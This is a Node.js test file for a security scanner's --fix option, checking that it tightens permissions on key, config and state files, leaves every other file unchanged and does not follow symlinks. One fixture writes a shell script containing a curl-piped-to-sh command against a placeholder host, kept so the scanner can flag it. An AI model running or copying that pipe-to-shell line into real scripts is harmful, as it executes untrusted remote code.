/** --fix applies the permission chmods and nothing else. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { scan, SEVERITIES } from '../../src/scan/index.js';

/** Every path under `dir` with its mode and content hash. */
function snapshot(dir: string): Map<string, { mode: number; hash: string }> {
  const out = new Map<string, { mode: number; hash: string }>();
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isSymbolicLink()) out.set(relative(dir, p), { mode: -1, hash: 'link' });
      else if (e.isDirectory()) {
        out.set(relative(dir, p) + '/', { mode: statSync(p).mode & 0o777, hash: '' });
        walk(p);
      } else out.set(relative(dir, p), { mode: statSync(p).mode & 0o777, hash: createHash('sha256').update(readFileSync(p)).digest('hex') });
    }
  };
  walk(dir);
  return out;
}

test('--fix: state dir 0700, config and key files 0600; nothing else changes', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'cg-scan-fix-'));
  const outside = mkdtempSync(join(tmpdir(), 'cg-scan-fix-outside-'));
  try {
    mkdirSync(join(dir, '.clawguard'));
    chmodSync(join(dir, '.clawguard'), 0o755);
    writeFileSync(join(dir, '.clawguard', 'operator.key'), 'not a real key but named like one\n', { mode: 0o644 });
    writeFileSync(join(dir, 'clawguard.json'), JSON.stringify({ agents: { a: { runtime: 'thread-bound', timeout: 30 } } }));
    chmodSync(join(dir, 'clawguard.json'), 0o664); // explicit: writeFileSync's mode is subject to the umask
    writeFileSync(join(dir, 'openclaw.json'), JSON.stringify({ logging: { redactSensitive: 'off' } }), { mode: 0o640 });
    writeFileSync(join(dir, 'id_ed25519'), 'binary-ish key material\n');
    chmodSync(join(dir, 'id_ed25519'), 0o604);
    writeFileSync(join(dir, 'id_ed25519.pub'), 'ssh-ed25519 AAAAC3Nz... user@host\n', { mode: 0o644 });
    writeFileSync(join(dir, 'README.md'), 'hello\n', { mode: 0o644 });
    writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\ncurl -s https://x.example | sh\n', { mode: 0o755 }); // clawguard:allow (test fixture)
    // A symlink to a file outside the tree: never followed, never chmod-ed.
    writeFileSync(join(outside, 'target.key'), 'outside\n', { mode: 0o644 });
    symlinkSync(join(outside, 'target.key'), join(dir, 'linked.key'));

    const before = snapshot(dir);
    const first = await scan({ target: dir, severities: SEVERITIES });
    const permIds = first.findings.filter((f) => f.checkId.startsWith('fs.')).map((f) => `${f.file} ${f.checkId}`).sort();
    assert.deepEqual(permIds, [
      '.clawguard fs.state_dir.perms_readable',
      '.clawguard/operator.key fs.key_file.perms_readable',
      'clawguard.json fs.config.perms_writable',
      'id_ed25519 fs.key_file.perms_readable',
      'openclaw.json fs.config.perms_group_readable',
    ]);
    assert.ok(first.findings.filter((f) => f.checkId.startsWith('fs.')).every((f) => f.fixable));

    const fixed = await scan({ target: dir, severities: SEVERITIES, fix: true });
    assert.deepEqual(fixed.summary.fixed.map((f) => `${f.file} ${f.from}->${f.to}`).sort(), [
      '.clawguard 0755->0700',
      '.clawguard/operator.key 0644->0600',
      'clawguard.json 0664->0600',
      'id_ed25519 0604->0600',
      'openclaw.json 0640->0600',
    ]);
    // Fixed findings are gone; the others (config rules, curl | sh) remain and still fail the scan.
    assert.ok(!fixed.findings.some((f) => f.checkId.startsWith('fs.')));
    assert.deepEqual(
      fixed.findings.map((f) => f.checkId).sort(),
      first.findings.filter((f) => !f.checkId.startsWith('fs.')).map((f) => f.checkId).sort(),
    );

    const after = snapshot(dir);
    const changed = [...after].filter(([p, v]) => JSON.stringify(before.get(p)) !== JSON.stringify(v)).map(([p, v]) => `${p} ${v.mode.toString(8)}`).sort();
    assert.deepEqual(changed, ['.clawguard/ 700', '.clawguard/operator.key 600', 'clawguard.json 600', 'id_ed25519 600', 'openclaw.json 600']);
    assert.deepEqual([...after.keys()].sort(), [...before.keys()].sort(), 'files added or removed');
    assert.equal(statSync(join(outside, 'target.key')).mode & 0o777, 0o644, 'symlink target changed');

    const again = await scan({ target: dir, severities: SEVERITIES, fix: true });
    assert.deepEqual(again.summary.fixed, []);
  } finally {
    rmSync(dir, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  }
});

test('--fix only repairs what the chosen severities report', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'cg-scan-fix-sev-'));
  try {
    writeFileSync(join(dir, 'openclaw.json'), JSON.stringify({ logging: { redactSensitive: 'tools' } }), { mode: 0o640 });
    const r = await scan({ target: dir, severities: ['critical'], fix: true });
    assert.deepEqual(r.summary.fixed, []);
    assert.equal(statSync(join(dir, 'openclaw.json')).mode & 0o777, 0o640);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
